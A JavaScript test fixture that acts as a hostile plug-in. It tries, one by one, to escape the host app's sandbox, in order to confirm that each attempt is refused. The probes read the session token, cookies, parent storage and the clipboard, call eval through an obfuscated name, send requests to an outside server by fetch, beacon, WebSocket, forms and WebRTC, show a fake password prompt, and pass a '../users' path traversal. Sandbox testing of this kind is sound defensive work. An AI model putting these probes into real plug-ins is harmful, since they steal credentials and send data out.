/** Tries all that a plug-in must not be able to do, and tells how each ended: 'refused' with the reason, or what it got. */
import { connect } from '/plugins/api.js'

const croft = await connect()

/** @param {() => unknown} work */
async function attempt(work) {
  try {
    return `got ${JSON.stringify(await work())}`
  } catch (error) {
    return `refused: ${error?.name ?? ''} ${error?.message ?? error}`
  }
}

const loaded = (element, attribute, url) =>
  new Promise((resolve, reject) => {
    element.onload = () => resolve('loaded')
    element.onerror = () => reject(new Error('not loaded'))
    element[attribute] = url
    document.body.append(element)
  })

const seen = []
addEventListener('message', event => seen.push(event.data))

/** `outside`: an HTTP server on another port, which nothing may reach. */
globalThis.attack = async (outside, instance) => {
  // What a debugger calls may do more, until it returns.
  await new Promise(resolve => setTimeout(resolve))
  return await attacks(outside, instance)
}

const attacks = async (outside, instance) => ({
  inline: await attempt(() => {
    if (!globalThis.inlineRan) throw new Error('inline script did not run')
  }),
  eval: await attempt(() => globalThis[['ev', 'al'].join('')]('1')),
  token: await attempt(() => sessionStorage.getItem('croft.token')),
  storage: await attempt(() => localStorage.setItem('a', 'b')),
  cookie: await attempt(() => document.cookie),
  parent_storage: await attempt(() => parent.sessionStorage.getItem('croft.token')),
  parent_document: await attempt(() => parent.document.title),
  parent_global: await attempt(() => Object.keys(parent.wrappedJSObject ?? parent.self.client)),
  fetch_outside: await attempt(() => fetch(`${outside}/fetch`)),
  fetch_api: await attempt(() => fetch('/v1/session')),
  beacon: await attempt(() => {
    if (!navigator.sendBeacon(`${outside}/beacon`, 'x')) throw new Error('not sent')
    throw new Error('queued; the listener tells')
  }),
  socket: await attempt(
    () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${outside.replace('http', 'ws')}/socket`)
        socket.onopen = () => resolve('open')
        socket.onerror = () => reject(new Error('no socket'))
      }),
  ),
  event_source: await attempt(
    () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`${outside}/events`)
        source.onopen = () => resolve('open')
        source.onerror = () => reject(new Error('no stream'))
      }),
  ),
  image: await attempt(() => loaded(new Image(), 'src', `${outside}/image.png`)),
  script: await attempt(() => loaded(document.createElement('script'), 'src', `${outside}/script.js`)),
  style: await attempt(() => loaded(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href', `${outside}/a.css`)),
  preconnect: await attempt(() => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: outside }))
    throw new Error('put; the listener tells')
  }),
  text_frame: await attempt(() => {
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>' }))
    return 'a frame'
  }),
  blank_frame: await attempt(() => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    return typeof frame.contentWindow.RTCPeerConnection
  }),
  markup: await attempt(() => {
    document.body.innerHTML += '<b>x</b>'
    return 'written'
  }),
  prefetch: await attempt(() => loaded(Object.assign(document.createElement('link'), { rel: 'prefetch' }), 'href', `${outside}/prefetch`)),
  module: await attempt(() => import(`${outside}/module.js`)),
  worker: await attempt(
    () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
        worker.onmessage = () => resolve('runs')
        worker.onerror = () => reject(new Error('no worker'))
      }),
  ),
  service_worker: await attempt(() => navigator.serviceWorker.register('hostile.js')),
  frame: await attempt(() => {
    const frame = document.createElement('iframe')
    frame.src = `${outside}/frame`
    document.body.append(frame)
    throw new Error('put; the listener tells')
  }),
  form: await attempt(() => {
    document.forms[0].action = `${outside}/form`
    document.forms[0].submit()
    throw new Error('submitted; the listener tells')
  }),
  rtc: await attempt(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(outside).host}` }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    const candidate = await new Promise(resolve => {
      peer.onicecandidate = event => resolve(event.candidate)
    })
    if (!candidate) throw new Error('no candidates')
    return 'candidates'
  }),
  popup: await attempt(() => {
    if (window.open(`${outside}/popup`) === null) throw new Error('no window')
    return 'a window'
  }),
  top: await attempt(() => {
    top.location.href = `${outside}/top`
    return 'went'
  }),
  top_link: await attempt(() => {
    const link = Object.assign(document.createElement('a'), { href: `${outside}/link`, target: '_top' })
    document.body.append(link)
    link.click()
    throw new Error('clicked; the listener tells')
  }),
  dialog: await attempt(() => {
    if (confirm('Your password?')) return 'asked'
    throw new Error('not asked')
  }),
  clipboard: await attempt(() => navigator.clipboard.readText()),
  route: await attempt(() => croft.call('user.list')),
  secret_route: await attempt(() => croft.call('session.project', { body: { project: 'default' } })),
  other_path: await attempt(() => croft.call('instance.get', { params: { instance: '../users' } })),
  own_route: await attempt(async () => (await croft.call('instance.get', { params: { instance } })).id),
  change_unasked: await attempt(() => croft.call('instance.stop', { params: { instance } })),
  navigate_unasked: await attempt(() => croft.navigate('/users')),
  navigate_outside: await attempt(() => croft.navigate(`//${new URL(outside).host}/`)),
  context: JSON.stringify(croft.context) + JSON.stringify(seen),
})

globalThis.noise = () => {
  for (let n = 0; n < 100; n++) croft.notice(`Sign in again ${n}`)
  parent.postMessage({ croft: 'croft-plugin-hello' }, '*')
  parent.postMessage(null, '*')
}

globalThis.heard = []
croft.follow(events => globalThis.heard.push(events))

document.getElementById('press').addEventListener('click', async () => {
  const told = await attempt(() => croft.call('instance.stop', { params: { instance: croft.context.item.id } }))
  document.getElementById('told').textContent = told.slice(0, 200)
})

globalThis.ready = true
